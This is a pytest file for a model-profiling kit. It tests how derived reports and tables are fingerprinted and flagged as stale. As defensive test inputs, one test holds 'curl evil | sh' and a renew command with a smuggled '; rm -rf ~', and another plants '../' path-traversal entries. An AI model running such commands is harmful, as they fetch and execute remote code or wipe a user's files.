"""Derived files are of the run as it is now: `run` renews or removes what it outdates, `validate` notices the rest."""

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from model_profiling.analysis.roofs.roof_rates import slug
from model_profiling.analysis.run.selection import choose
from model_profiling.analysis.run.validation import Staleness, check_staleness, copy_problem
from model_profiling.analysis.sme2 import kernel_table
from model_profiling.base import files
from model_profiling.base.directories import roofs_directory
from model_profiling.cli.tools import main as tool
from model_profiling.report.drawing.drawing_process import DrawingPool
from model_profiling.report.files import report_files
from model_profiling.report.files.page_files import write_combined
from model_profiling.store import derived
from model_profiling.store.artifacts import CATEGORIES, DERIVED, RUN_NUMERICS, RUNTIMES, ExportPaths
from model_profiling.store.derived import (
    DerivedIndex,
    DerivedWriter,
    fingerprint,
    notes,
    read_index,
    renew_command,
    stamps,
)
from model_profiling.store.run_directory import RunDirectory
from sme2_kit import Run
from tests.conftest import ROOT, kit
from tests.helpers.numerics_forge import layer, numerics
from tests.helpers.roof_forge import forged_roofs
from tests.helpers.runtime_forge import runtimes

KNOWN_GOOD = Path(__file__).parents[1] / "data" / "known_good_run"
REPORTS = {"report.md", "report.html", "trace.json", "shift.png", "report_charts/shift.svg", "report_charts/shift.png"}


@pytest.fixture(scope="module")
def artist() -> Iterator[DrawingPool]:
    with DrawingPool() as started:
        yield started


@pytest.fixture(scope="module")
def reported(artist: DrawingPool, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run directory with every derived file the kit writes into one."""
    run = tmp_path_factory.mktemp("derived") / "run"
    shutil.copytree(KNOWN_GOOD, run)
    opened = Run.open(run)
    report_files.write_report(opened, artist, run / "report.md", page=True)
    report_files.write_picture(opened, artist, "shift", run / "shift.png", "light", 400)
    return run


@pytest.fixture
def directory(reported: Path, tmp_path: Path) -> RunDirectory:
    """The same, to be changed by one test."""
    return RunDirectory(Path(shutil.copytree(reported, tmp_path / "run")))


def index_of(directory: RunDirectory) -> DerivedIndex:
    index = read_index(directory)
    assert index is not None
    return index


def change_run(directory: RunDirectory, change: Callable[[dict[str, Any]], object] | None = None) -> None:
    """What another run does: other records in the manifest."""
    manifest = json.loads(directory.manifest_path.read_text())
    (change or (lambda m: next(iter(m["experiments"].values())).update(started="2001-01-01T00:00:00+00:00")))(manifest)
    directory.manifest_path.write_text(json.dumps(manifest))


def test_a_fresh_directory_is_listed_whole_and_has_nothing_stale(directory: RunDirectory) -> None:
    assert check_staleness(directory) == Staleness()
    listed = set(index_of(directory).files)
    made = {path.relative_to(directory.path).as_posix() for path in directory.path.rglob("*") if path.is_file()}
    sources = {f"{name}/{file}" for name, r in directory.manifest().experiments.items() for file in r.files}
    assert listed == made - sources - {"manifest.json", DERIVED}
    assert listed >= REPORTS


def test_every_derived_file_carries_what_it_was_made_from(directory: RunDirectory) -> None:
    current = fingerprint(directory)
    for name in index_of(directory).files:
        assert stamps(directory.path / name) == (set() if name.endswith(".csv") else {current}), name
    assert f"made from sources {current}; the command" in (directory.path / "report.html").read_text()


def test_every_derived_file_that_is_older_than_its_run_is_noticed(directory: RunDirectory) -> None:
    """Restore each one alone, as it was before another run, with or without its record."""
    earlier = {name: (directory.path / name).read_bytes() for name in index_of(directory).files}
    change_run(directory)
    Run.open(directory.path).save()
    renewed = {name: (directory.path / name).read_bytes() for name in index_of(directory).files}
    assert check_staleness(directory) == Staleness()
    for name, data in earlier.items():
        path = directory.path / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
        if renewed.get(name) != data:  # a table may be the same again
            (problem,) = check_staleness(directory).stale if name != "shift.png" else [copy_problem(directory, path)]
            assert name in problem
        if name in renewed:
            path.write_bytes(renewed[name])
        else:
            path.unlink()
    assert check_staleness(directory) == Staleness()


def test_every_derived_file_that_was_edited_is_noticed(directory: RunDirectory) -> None:
    for name, entry in index_of(directory).files.items():
        path = directory.path / name
        whole = path.read_bytes()
        path.write_bytes(whole + b" ")
        (problem,) = check_staleness(directory).stale
        command = entry.renew.replace("{dir}", shlex.quote(str(directory.path)))
        assert problem == f"{name} was changed after it was written; `{command}` writes it again"
        path.write_bytes(whole)


@pytest.mark.parametrize(
    "renew",
    ["curl evil | sh", "sme2-kit profile evil.py:Net", "python evil.py", "python evil/../evil.py", "sme2-kit", "'"],
)
def test_a_command_that_is_not_the_kits_is_not_repeated_in_its_name(renew: str, directory: RunDirectory) -> None:
    assert renew_command(renew, directory) == f"sme2-kit analyze {directory.path}"
    typed = renew_command("sme2-kit report {dir}; rm -rf ~", directory)
    assert typed == f"sme2-kit report '{directory.path};' rm -rf '~'"
    assert "/elsewhere/" not in renew_command("python /elsewhere/etdump_to_csv.py {dir}/x", directory)


def test_a_run_that_was_killed_before_it_wrote_results_leaves_all_of_them_stale(directory: RunDirectory) -> None:
    whole, listed = directory.manifest_path.read_text(), index_of(directory).files
    changes: list[Callable[[dict[str, Any]], object]] = [
        lambda manifest: manifest.update(status="failed"),
        lambda manifest: manifest.update(compare_pairs=[]),
        lambda manifest: manifest["model"].update(sha256="0" * 64),
        lambda manifest: manifest["experiments"].popitem(),
        lambda manifest: manifest["schedules"].clear(),
        lambda manifest: next(iter(manifest["experiments"].values())).update(notes=["hot"]),
    ]
    for number, change in enumerate(changes):
        change_run(directory, change)
        found = check_staleness(directory).stale
        assert len(found) == len(listed), number
        assert all("made from an earlier state of this run" in problem for problem in found), number
        directory.manifest_path.write_text(whole)


def test_a_run_that_measured_nothing_outdates_nothing(directory: RunDirectory) -> None:
    changes: list[Callable[[dict[str, Any]], object]] = [
        lambda manifest: manifest.update(updated="2099-01-01T00:00:00+00:00"),
        lambda manifest: manifest["config"].update(command="sme2-kit run again"),
        lambda manifest: manifest["environment"].update(load_1m_5m_15m=[9.0, 9.0, 9.0]),
        lambda manifest: manifest["model"].update(path="moved/elsewhere.pte"),
    ]
    for number, change in enumerate(changes):
        change_run(directory, change)
        assert check_staleness(directory) == Staleness(), number
    assert Run.open(directory.path).save() == []
    assert check_staleness(directory) == Staleness()
    assert set(index_of(directory).files) >= REPORTS


def test_analysing_a_changed_run_removes_its_reports_and_names_the_commands(directory: RunDirectory) -> None:
    change_run(directory)
    told = Run.open(directory.path).save()
    gone = {entry.path.relative_to(directory.path).as_posix() for entry in told if entry.removed}
    assert gone >= REPORTS
    assert not any((directory.path / name).exists() for name in gone)
    assert not (directory.path / "report_charts").exists()
    said = notes(told)
    assert any(note.endswith(f"sme2-kit report {shlex.quote(str(directory.path))} --html") for note in said)
    assert any("shift.png" in note and "--png shift --theme light --width 400" in note for note in said)


def test_an_edited_report_is_never_removed(directory: RunDirectory) -> None:
    page = directory.path / "report.html"
    page.write_text(page.read_text() + "<p>my remark</p>")
    change_run(directory)
    told = Run.open(directory.path).save()
    assert page.read_text().endswith("<p>my remark</p>")
    assert any("report.html was edited and is kept" in note for note in notes(told))
    (problem,) = check_staleness(directory).stale
    assert "report.html is stale" in problem


def test_other_categories_outdate_a_report_and_agree_with_themselves(directory: RunDirectory, tmp_path: Path) -> None:
    table = tmp_path / "categories.json"
    table.write_text('{"operators": {"mean.out": "CONV"}}')
    told = Run.open(directory.path, table).save()
    assert {entry.path.relative_to(directory.path).as_posix() for entry in told} >= REPORTS
    assert check_staleness(directory) == Staleness()
    # The table is kept with the run: what comes after says the same, until it is asked to forget.
    table.unlink()
    assert Run.open(directory.path).save() == [] and check_staleness(directory) == Staleness()
    compared = next(iter(choose(str(directory.path)).values())).profile()
    assert {x.category for x in compared.instances if x.operator == "mean.out"} == {"CONV"}
    conv = [c.ms for e in Run.open(directory.path).summary.experiments.values() for c in e.breakdown.categories[:1]]
    Run.open(directory.path, "builtin").save()
    assert not (directory.path / CATEGORIES).exists() and check_staleness(directory) == Staleness()
    built_in = [c.ms for e in Run.open(directory.path).summary.experiments.values() for c in e.breakdown.categories[:1]]
    assert all(ours > theirs for ours, theirs in zip(conv, built_in, strict=True))


def test_a_newer_kit_outdates_nothing_until_it_analyses(
    directory: RunDirectory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its numbers may differ: then a report by the older one must not stand beside them."""
    monkeypatch.setattr(derived, "analysis_version", lambda: "99.0+newer")
    assert check_staleness(directory) == Staleness()
    told = Run.open(directory.path).save()
    assert {entry.path.relative_to(directory.path).as_posix() for entry in told} >= REPORTS
    assert check_staleness(directory) == Staleness()


def test_every_file_that_computes_numbers_makes_another_version(tmp_path: Path) -> None:
    """In whatever folder it lies: a report that was made before it changed is called stale."""
    package = tmp_path / "kit"
    for folder in ("analysis", "formats", "report"):
        shutil.copytree(ROOT / "model_profiling" / folder, package / folder)
    before = {derived.code_hash(package)}
    for name in ("analysis/timing/breakdown.py", "formats/pte/__init__.py", "formats/etrecord/reader.py"):
        (package / name).write_text((package / name).read_text() + "\n# changed\n")
        assert derived.code_hash(package) not in before
        before.add(derived.code_hash(package))
    (package / "report" / "words.py").write_text("")
    assert derived.code_hash(package) in before


def _own_table(path: Path) -> None:
    files.write_json(kernel_table.table_path("1.5.1"), kernel_table.KernelTable("1.5.1", "an emulator", []))


def _own_roofs(path: Path) -> None:
    manifest = RunDirectory(path).manifest()
    record, cpu = next(iter(manifest.experiments.values())), str(manifest.environment["cpu"])
    assert record.features is not None
    roofs = forged_roofs(cpu, manifest.model.dtype, record.features.active, record.threads)
    files.write_json(roofs_directory() / f"{slug(cpu)}.json", roofs)


def _etrecord(path: Path) -> None:
    record = ExportPaths(Path(RunDirectory(path).manifest().model.path)).etrecord
    record.write_bytes(record.read_bytes() + b"more")


INPUTS: dict[str, Callable[[Path], object]] = {
    "kernel table of ExecuTorch 1.5.1": _own_table,
    "roofs": _own_roofs,
    "accuracy of layers": lambda run: files.write_json(
        run / RUN_NUMERICS, numerics([layer(0, 40.0)], sha256=RunDirectory(run).manifest().model.sha256)
    ),
    "comparison of runtimes": lambda run: files.write_json(
        run / RUNTIMES, runtimes(pte_sha256=RunDirectory(run).manifest().model.sha256)
    ),
    "category table": lambda run: (run / CATEGORIES).write_text('{"operators": {"mean.out": "CONV"}}'),
    "ETRecord": _etrecord,
}


@pytest.fixture
def of_program(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run that was analysed beside its program, on a machine of which nothing else is known."""
    monkeypatch.setenv("SME2_KIT_CACHE", str(tmp_path / "cache"))
    monkeypatch.delenv("SME2_KIT_ROOFS", raising=False)
    run, program = tmp_path / "run", tmp_path / "tiny_xnnpack_fp32.pte"
    shutil.copytree(KNOWN_GOOD, run)
    for name in (program.name, f"{program.name}.etrecord"):
        shutil.copy(KNOWN_GOOD.parent / "fuzz_seeds" / name, tmp_path / name)
    manifest = json.loads((run / "manifest.json").read_text())
    manifest["model"].update(path=str(program), sha256=files.sha256(program))
    for record in manifest["experiments"].values():
        record["runner"]["executorch"] = "1.5.1"
    (run / "manifest.json").write_text(json.dumps(manifest))
    Run.open(run).save()
    assert check_staleness(RunDirectory(run)) == Staleness()
    return run


def test_whatever_a_new_report_would_be_made_from_instead_makes_the_last_one_stale(of_program: Path) -> None:
    before = Run.open(of_program).sources
    for name, change in INPUTS.items():
        change(of_program)
        (problem,) = check_staleness(RunDirectory(of_program)).stale
        assert f"the {name} has changed since; `sme2-kit analyze" in problem
        run = Run.open(of_program)
        assert run.sources != before, name
        before = run.sources
        run.save()
        assert check_staleness(RunDirectory(of_program)) == Staleness(), name
        assert name == "ETRecord" or name in index_of(RunDirectory(of_program)).used


def test_a_run_elsewhere_is_as_valid_as_where_its_program_is(of_program: Path) -> None:
    manifest = RunDirectory(of_program).manifest()
    for path in (Path(manifest.model.path), ExportPaths(Path(manifest.model.path)).etrecord):
        path.unlink()
    assert check_staleness(RunDirectory(of_program)) == Staleness()


def test_a_run_that_an_earlier_kit_analysed_is_not_judged_by_what_that_did_not_look_at(of_program: Path) -> None:
    index = json.loads((of_program / DERIVED).read_text())
    assert index.pop("inputs")
    for entry in index["files"].values():
        entry["sources"] = fingerprint(RunDirectory(of_program), {}, index["kit"])
    (of_program / DERIVED).write_text(json.dumps(index))
    for change in INPUTS.values():
        change(of_program)
    assert check_staleness(RunDirectory(of_program)) == Staleness()


_RECORDED = """
import os, sys
from pathlib import Path
opened = {}
def hook(event, args):
    if event == "open" and isinstance(args[0], str):
        opened.setdefault(os.path.abspath(args[0]))
sys.addaudithook(hook)
from model_profiling.report.files import report_files
from sme2_kit import Run
from tests.helpers.sketching import Sketcher
run = Run.open(sys.argv[1])
report_files.write_report(run, Sketcher(), Path(sys.argv[2]), page=True)
run.graphs
print("\\n".join(path for path in opened if path.startswith(sys.argv[3]) and os.path.isfile(path)))
"""


def test_every_file_that_a_report_opens_is_in_its_fingerprint(of_program: Path, tmp_path: Path) -> None:
    """Whatever is not named with its hash in the manifest is noticed when it changes."""
    for change in INPUTS.values():
        change(of_program)
    Run.open(of_program).save()
    shutil.rmtree(roofs_directory())  # they are kept with the run
    words = [sys.executable, "-c", _RECORDED, str(of_program), str(tmp_path / "out" / "report.md"), str(tmp_path)]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(words, capture_output=True, text=True, env=environment, cwd=ROOT, check=False)
    assert done.returncode == 0, done.stderr
    opened = [Path(line) for line in done.stdout.splitlines() if "/out/" not in line and "/.change-" not in line]
    names = {path.name for path in opened}
    assert {"manifest.json", "1.5.1.json", "roofs.json", "numerics.json", "runtimes.json", "categories.json"} <= names
    manifest = (of_program / "manifest.json").read_text()
    for path in opened:
        data = path.read_bytes()
        if files.sha256(path) in manifest or path.name in ("manifest.json", DERIVED, "hashes"):
            continue
        path.write_bytes(data.replace(b"1", b"2") if b"1" in data else data[:-2])
        assert check_staleness(RunDirectory(of_program)).stale, path
        path.write_bytes(data)


def test_a_file_that_no_longer_derives_is_removed_with_what_it_showed(directory: RunDirectory) -> None:
    gone = list(directory.manifest().experiments)[-1]
    tables = [name for name in index_of(directory).files if name.startswith(f"{gone}/")]
    assert tables
    change_run(directory, lambda manifest: (manifest["experiments"].pop(gone), manifest.update(compare_pairs=[])))
    Run.open(directory.path).save()
    assert not any((directory.path / name).exists() for name in tables)
    assert check_staleness(directory) == Staleness()


def test_the_record_cannot_make_the_kit_remove_a_file_elsewhere(directory: RunDirectory, tmp_path: Path) -> None:
    outside = tmp_path / "precious.txt"
    outside.write_bytes((directory.path / "report.md").read_bytes())
    record = json.loads((directory.path / DERIVED).read_text())
    record["files"] |= dict.fromkeys(("../precious.txt", str(outside)), record["files"]["report.md"])
    (directory.path / DERIVED).write_text(json.dumps(record))
    change_run(directory)
    Run.open(directory.path).save()
    assert outside.is_file()


def test_a_broken_record_is_a_problem_and_is_written_anew(directory: RunDirectory) -> None:
    for content in ("", "[]", '{"kit": 1}', '{"kit": "", "categories": "", "files": []}', "{"):
        (directory.path / DERIVED).write_text(content)
        (problem,) = check_staleness(directory).stale
        assert DERIVED in problem and "sme2-kit analyze" in problem, content
    Run.open(directory.path).save()
    assert check_staleness(directory) == Staleness()  # reports carry their fingerprint, too


def test_without_a_record_files_are_of_unknown_age_and_the_run_is_valid() -> None:
    done = kit("validate", "--results", KNOWN_GOOD)
    assert done.returncode == 0, done.stdout
    if not (KNOWN_GOOD / DERIVED).exists():
        assert "unknown origin: analysis_summary.json" in done.stdout


def test_a_report_of_unknown_age_beside_results_of_known_age_is_a_problem(directory: RunDirectory) -> None:
    change_run(directory)
    Run.open(directory.path).save()
    (directory.path / "report.html").write_text("<html>from a kit that stamped nothing</html>")
    (problem,) = check_staleness(directory).stale
    command = f"sme2-kit report {shlex.quote(str(directory.path))} --html"
    assert "report.html has no known origin" in problem and command in problem


def test_a_copy_elsewhere_can_be_checked(directory: RunDirectory, artist: DrawingPool, tmp_path: Path) -> None:
    report = tmp_path / "mail" / "mine.md"
    written, _ = report_files.write_report(Run.open(directory.path), artist, report, page=True)
    pictures = [report.with_name("mine_charts") / f"shift.{suffix}" for suffix in ("png", "svg")]
    (together,) = write_combined([Run.open(directory.path), Run.open(KNOWN_GOOD)], artist, tmp_path / "both.md")
    copies = [*written, *pictures, together]
    assert [copy_problem(directory, path) for path in copies] == [""] * len(copies)
    assert "mine.md" not in index_of(directory).files and check_staleness(directory) == Staleness()
    change_run(directory)
    assert all("an earlier state of this one" in copy_problem(directory, path) for path in copies)
    assert all(path.is_file() for path in copies)
    assert "contains no fingerprint" in copy_problem(directory, Path(__file__))
    assert "does not exist" in copy_problem(directory, tmp_path / "none.md")


def test_what_a_tool_writes_into_a_run_directory_is_watched_too(directory: RunDirectory) -> None:
    (timeline,) = directory.path.glob("*_on/*_all_runs_timeline.csv")
    (dump,) = directory.path.glob("*_on/*.etdump")
    written = [directory.path / name for name in ("A_ops_stats.csv", "operator_analysis.json")]
    assert tool("analyze_etdump_csv", ["--timeline-csv", str(timeline), "--output-dir", str(directory.path)]) == 0
    # In place of one of the kit's own.
    assert tool("etdump_to_csv", [str(dump), "--output", str(timeline)]) == 0
    assert check_staleness(directory) == Staleness()
    change_run(directory)
    stale = check_staleness(directory).stale
    assert len([problem for path in written for problem in stale if path.name in problem]) == 2
    Run.open(directory.path).save()
    assert not any(path.exists() for path in written) and check_staleness(directory) == Staleness()


def test_a_stamped_picture_is_still_a_picture(directory: RunDirectory) -> None:
    data = (directory.path / "shift.png").read_bytes()
    at, kinds = 8, []
    while at < len(data):
        length = int.from_bytes(data[at : at + 4], "big")
        kind, body = data[at + 4 : at + 8], data[at + 8 : at + 8 + length]
        assert int.from_bytes(data[at + 8 + length : at + 12 + length], "big") == zlib.crc32(kind + body)
        kinds.append(kind)
        at += length + 12
    assert kinds[-2:] == [b"tEXt", b"IEND"]


def test_a_forecast_is_stale_once_the_emulated_run_changed(directory: RunDirectory, tmp_path: Path) -> None:
    emulated = Path(shutil.copytree(KNOWN_GOOD, tmp_path / "emulated"))
    writer = DerivedWriter(Run.open(directory.path, emulated=emulated))
    writer.write_text(directory.path / "report.md", "# Forecast\n", f"report {{dir}} --forecast {emulated}")
    assert writer.finish() == [] and check_staleness(directory) == Staleness()
    change_run(RunDirectory(emulated))
    (problem,) = check_staleness(directory).stale
    assert "report.md is stale" in problem and str(emulated) in problem


def page_latencies(run: Path) -> set[float]:
    """The medians that the page's own data holds."""
    data = re.search(r'id="data">(.*?)</script>', (run / "report.html").read_text(), re.S)
    assert data
    return {entry["latency_ms"] for entry in json.loads(data[1])["experiments"].values()}


def metrics_latencies(run: Path) -> set[float]:
    metrics = json.loads((run / "metrics.json").read_text())
    return {entry["latency"]["median_ms"] for entry in metrics["experiments"].values()}


@pytest.mark.wide
def test_after_another_run_no_report_contradicts_the_metrics(toy: Callable[[str], Path], tmp_path: Path) -> None:
    run, model = tmp_path / "run", toy("fp16")
    first = kit("run", model, "--output-root", run, "--runs", 5, "--quiet", "--html")
    assert first.returncode == 0, first.stderr
    page = (run / "report.html").read_bytes()
    assert page_latencies(run) == metrics_latencies(run)

    second = kit("run", model, "--output-root", run, "--runs", 10, "--quiet")
    assert second.returncode == 0, second.stderr
    assert not (run / "report.html").exists()
    assert "removed" in second.stderr and f"sme2-kit report {run} --html" in second.stderr
    assert kit("validate", "--results", run).returncode == 0

    (run / "report.html").write_bytes(page)  # as the kit used to leave it
    stale = kit("validate", "--results", run)
    assert stale.returncode == 1 and "report.html is stale" in stale.stdout, stale.stdout

    third = kit("run", model, "--output-root", run, "--runs", 15, "--quiet", "--html")
    assert third.returncode == 0 and "removed" not in third.stderr, third.stderr
    assert page_latencies(run) == metrics_latencies(run)
    assert kit("validate", "--results", run).returncode == 0


@pytest.mark.wide
def test_a_second_run_that_fails_partway_outdates_nothing(toy: Callable[[str], Path], tmp_path: Path) -> None:
    run, crash, config = tmp_path / "run", tmp_path / "crash", tmp_path / "config.json"
    crash.write_text("#!/bin/sh\nkill -SEGV $$\n")
    crash.chmod(0o755)
    wanted: list[dict[str, object]] = [{"name": "good", "num_runs": 5}]
    for failing, code in ((False, 0), (True, 4)):
        if failing:
            wanted = [{"name": "good", "num_runs": 6}, {"name": "bad", "num_runs": 5, "runner_path": str(crash)}]
        content = {"model": str(toy("fp16")), "output_root": str(run), "experiments": wanted}
        config.write_text(json.dumps(content))
        done = kit("run", "--config", config, "--quiet", "--html")
        assert done.returncode == code, done.stderr
    # It replaces nothing either: the run that was there, and its report, are still each other's.
    assert (run / "report.html").is_file() and "Earlier results were not replaced" in done.stderr
    directory = RunDirectory(run)
    assert set(directory.manifest().experiments) == {"good"} and directory.manifest().status == "complete"
    assert check_staleness(directory) == Staleness()
    assert stamps(run / "metrics.json") == {Run.open(run).sources}
